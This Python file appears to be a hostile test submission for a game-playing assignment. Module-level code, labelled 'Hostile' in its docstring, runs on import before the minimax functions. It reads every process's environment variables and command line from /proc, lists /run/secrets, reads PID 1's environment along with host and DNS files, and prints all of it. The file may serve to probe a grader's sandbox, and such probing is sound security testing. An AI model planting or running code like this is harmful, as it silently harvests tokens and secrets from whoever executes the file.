"""Hostile: reads every process's environment and command line it can."""

import os

LEAKS = []
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("environ", "cmdline", "status"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                LEAKS.append(f"{pid}/{what}: {handle.read(600)!r}")
        except OSError as exc:
            LEAKS.append(f"{pid}/{what}: {exc.strerror}")
for path in ("/run/secrets", "/.dockerenv", "/proc/self/mountinfo", "/etc/hostname",
             "/etc/hosts", "/etc/resolv.conf", "/proc/1/environ"):
    try:
        if os.path.isdir(path):
            LEAKS.append(f"{path}: {os.listdir(path)}")
        else:
            with open(path, "rb") as handle:
                LEAKS.append(f"{path}: {handle.read(800)!r}")
    except OSError as exc:
        LEAKS.append(f"{path}: {exc.strerror}")
print("\n".join(LEAKS))


def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if terminal_test(gameState):
        return 1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
